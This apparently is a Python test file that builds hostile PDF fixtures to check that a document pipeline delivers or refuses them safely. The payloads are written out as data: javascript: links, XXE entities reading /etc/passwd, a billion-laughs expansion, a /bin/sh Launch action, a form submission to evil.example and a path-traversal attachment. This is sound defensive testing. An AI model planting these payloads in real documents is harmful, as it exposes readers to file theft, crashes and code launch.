"""Papers that act: scripts, launches, forms, files within, locks, and links to where no link should lead."""

from collections.abc import Callable
from functools import partial
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from pipeline.model.outcome import DELIVERED
from tests.hostile.build import ENCRYPTED, REFUSED, Hostile, changed, good

SAFE = DELIVERED | REFUSED
ADDRESSES = {
    "script": "javascript:alert(1)",
    "script-mixed": "JaVaScRiPt:alert(1)",
    "script-with-a-tab": "java\tscript:alert(1)",
    "script-with-a-line": "\njavascript:alert(1)",
    "file": "file:///etc/passwd",
    "data": "data:text/html,<script>alert(1)</script>",
    "other-script": "vbscript:msgbox(1)",
    "share": "\\\\evil.example\\share\\x",
    "no-scheme": "//evil.example/x",
    "transfer": "ftp://evil.example/x",
    "with-quotes": 'https://undocs.org/"><script>alert(1)</script>',
    "with-a-null": "https://undocs.org/\x00A/RES/1",
    "turned-round": "https://undocs.org/\u202egro.sodnu",
    "long": "https://undocs.org/" + "w" * 100_000,
    "empty": "",
}


def set_root(key: str, value: object) -> bytes:
    """Return a good resolution with one more entry in its catalog."""

    def change(file: pikepdf.Pdf) -> None:
        file.Root[key] = value

    return changed(change)


def with_link(address: str) -> bytes:
    """Return a good resolution with a link over the words at the top of its first page."""

    def change(file: pikepdf.Pdf) -> None:
        action = Dictionary(S=Name.URI, URI=String(address))
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[60, 400, 500, 500], Border=[0, 0, 0], A=action)
        file.pages[0].obj.Annots = Array([file.make_indirect(link)])

    return changed(change)


def with_action(action: Callable[[pikepdf.Pdf], Dictionary]) -> bytes:
    """Return a good resolution that does something when it is opened."""

    def change(file: pikepdf.Pdf) -> None:
        file.Root.OpenAction = action(file)
        file.pages[0].obj.AA = Dictionary(O=action(file))

    return changed(change)


def with_a_file() -> bytes:
    """Return a good resolution with a file within, one of a name that leads out of its folder."""

    def change(file: pikepdf.Pdf) -> None:
        file.attachments["../../well.exe"] = b"MZ"

    return changed(change)


def with_a_form() -> bytes:
    """Return a good resolution with a form that has a script, and one of XML that names an entity."""

    def change(file: pikepdf.Pdf) -> None:
        script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
        field = file.make_indirect(Dictionary(FT=Name.Tx, T=String("well"), V=String("water"), AA=Dictionary(C=script)))
        form = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xdp>&e;</xdp>'
        file.Root.AcroForm = Dictionary(Fields=[field], XFA=file.make_stream(form))

    return changed(change)


def with_metadata(text: bytes) -> bytes:
    """Return a good resolution with such metadata."""

    def change(file: pikepdf.Pdf) -> None:
        file.Root.Metadata = file.make_stream(text)
        file.Root.Metadata.Type, file.Root.Metadata.Subtype = Name.Metadata, Name.XML

    return changed(change)


def with_producer(value: object) -> bytes:
    """Return a good resolution whose producer is such."""

    def change(file: pikepdf.Pdf) -> None:
        file.trailer.Info = file.make_indirect(Dictionary(Producer=value, Title=value))

    return changed(change)


def locked(owner: str, user: str, strength: int) -> bytes:
    """Return a good resolution that is locked; its bytes differ from run to run."""
    written = BytesIO()
    with pikepdf.open(BytesIO(good())) as file:
        lock = pikepdf.Encryption(owner=owner, user=user, R=strength, aes=strength >= 4, metadata=strength >= 4)  # type: ignore[arg-type]
        file.save(written, encryption=lock)
    return written.getvalue()


def with_entity() -> bytes:
    """Return metadata with entities that grow a thousand times at each step."""
    steps = b"".join(b'<!ENTITY e%d "%s">' % (step + 1, b"&e%d;" % step * 10) for step in range(9))
    return b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "well">' + steps + b"]><x>&e9;</x>"


FILES = (
    *(Hostile(f"link-{name}", SAFE, partial(with_link, address)) for name, address in ADDRESSES.items()),
    Hostile(
        "act-script", SAFE, lambda: with_action(lambda _: Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    ),
    Hostile("act-launch", SAFE, lambda: with_action(lambda _: Dictionary(S=Name.Launch, F=String("/bin/sh")))),
    Hostile(
        "act-elsewhere",
        SAFE,
        lambda: with_action(lambda _: Dictionary(S=Name.GoToR, F=String("\\\\evil\\x.pdf"), D=[0])),
    ),
    Hostile(
        "act-send", SAFE, lambda: with_action(lambda _: Dictionary(S=Name.SubmitForm, F=String("http://evil.example")))
    ),
    Hostile("act-chain", SAFE, lambda: with_action(_chain)),
    Hostile("file-within", SAFE, with_a_file),
    Hostile("form", SAFE, with_a_form),
    Hostile("names-of-scripts", SAFE, partial(set_root, "/Names", Dictionary(JavaScript=Dictionary(Names=[])))),
    Hostile("collection", SAFE, partial(set_root, "/Collection", Dictionary(View=Name.H))),
    Hostile("address-of-the-document", SAFE, partial(set_root, "/URI", Dictionary(Base=String("javascript:")))),
    Hostile("language-odd", SAFE, partial(set_root, "/Lang", String("x\x00\u202e<script>"))),
    Hostile(
        "metadata-entity",
        SAFE,
        partial(with_metadata, b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    ),
    Hostile("metadata-growing", SAFE, lambda: with_metadata(with_entity())),
    Hostile("metadata-noise", SAFE, partial(with_metadata, bytes(range(256)))),
    Hostile("producer-controls", SAFE, partial(with_producer, String("W\x00\x07\x1b[31m\u202e"))),
    Hostile("producer-half-a-pair", SAFE, partial(with_producer, String(b"\xfe\xff\xd8\x00\x00W"))),
    Hostile("producer-long", SAFE, partial(with_producer, String("w" * 2_000_000))),
    Hostile("producer-is-a-list", SAFE, partial(with_producer, Array([1, 2]))),
    Hostile("locked-with-a-word", ENCRYPTED, partial(locked, "well", "well", 6)),
    Hostile("locked-for-changes", ENCRYPTED, partial(locked, "well", "", 6)),
    Hostile("locked-old", ENCRYPTED, partial(locked, "well", "", 3)),
    Hostile("locked-older", ENCRYPTED, partial(locked, "well", "", 2)),
)


def _chain(file: pikepdf.Pdf) -> Dictionary:
    """Return an action that leads to itself."""
    action = file.make_indirect(Dictionary(S=Name.Named, N=Name.NextPage))
    action.Next = action
    return action
